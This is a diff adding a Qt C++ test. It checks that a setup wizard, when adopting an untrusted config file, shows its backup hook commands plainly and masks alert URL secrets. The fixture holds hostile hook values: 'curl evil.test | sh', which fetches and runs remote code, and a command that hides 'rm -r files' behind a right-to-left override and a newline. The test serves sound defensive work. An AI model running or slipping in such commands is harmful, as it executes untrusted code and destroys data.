@@ -79,6 +79,7 @@ private slots:
     void keyFromEarlierIsUsedAgain();
     void withoutAKeychainSecretsStayInTheSession();
     void configFileIsAdopted();
+    void adoptingShowsWhatItWouldRunAndTell();
     void configFileThatLacksSomethingIsExplained();
     void goingBackKeepsWhatWasTyped();
     void refusedKeychainKeepsEverythingTyped();
@@ -223,6 +224,35 @@ void SetupWizardTest::configFileIsAdopted()
     QFile untouched(file);
     QVERIFY(untouched.open(QIODevice::ReadOnly));
     QCOMPARE(untouched.readAll(), text);
+}
+
+/// The file may be a stranger's.
+void SetupWizardTest::adoptingShowsWhatItWouldRunAndTell()
+{
+    WizardFixture console;
+    const QByteArray text =
+        "[database]\npath = \"blog.db\"\n[storage.folder]\npath = \"" + console.path(u"b"_s).toUtf8()
+        + "\"\n[lifeboat.hooks]\nbefore_backup = \"curl evil.test | sh\"\n"
+          "after_backup = \"true \\u202E\\n; rm -r files\"\nbefore_restore = \"stop <b>it</b>\"\n"
+          "after_restore = \"start it\"\n[lifeboat.alerts]\nping_url = \"https://ping.test/secret-id\"\n"
+          "webhook_url = \"https://hook.test/secret-id\"\nmail_to = \"them@mail.test\"\n";
+    console.wizard->useConfigFile(console.write(u"app/config.toml"_s, text));
+    QTRY_VERIFY_WITH_TIMEOUT(console.canFinish(), patience);
+    const auto said = [page = console.wizard->currentPage()] {
+        QStringList words;
+        for (const QLabel *label : page->findChildren<QLabel *>()) {
+            if (label->isVisibleTo(page))
+                words += label->text();
+        }
+        return words;
+    };
+    QTRY_VERIFY2(said().contains(u"curl evil.test | sh"_s), qPrintable(said().join(u'\n')));
+    QVERIFY(said().contains(u"true \\u202e\\n; rm -r files"_s)); // nothing in it hides the rest
+    QVERIFY(said().contains(u"stop <b>it</b>"_s) && said().contains(u"start it"_s));
+    const QString all = said().join(u'\n');
+    for (const QString &words : {u"ping.test"_s, u"hook.test"_s, u"them@mail.test"_s, u"before a backup"_s})
+        QVERIFY2(all.contains(words), qPrintable(words));
+    QVERIFY(!all.contains(u"secret-id"_s));
 }
 
 void SetupWizardTest::configFileThatLacksSomethingIsExplained()
